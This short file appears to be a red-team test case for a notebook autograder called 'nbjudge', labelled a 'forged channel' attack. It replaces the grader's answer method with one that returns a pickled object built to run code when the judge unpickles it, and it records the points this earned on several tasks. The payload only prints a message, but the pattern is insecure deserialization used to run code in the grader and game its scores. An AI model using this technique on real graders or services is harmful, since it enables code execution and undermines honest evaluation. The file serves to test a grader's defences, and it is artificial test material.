# family: forged channel
# tries: answers with a pickle that would run a program
# earns: mnist_loader 5, flatten 3, manual_network 8, softmax 0, probabilities 0

# %% before softmax
import pickle
import nbjudge.kernel.agent

class Program:
    def __reduce__(self):
        return print, ("run in the judge",)

nbjudge.kernel.agent.Agent.answer = lambda self, request: pickle.dumps(Program())
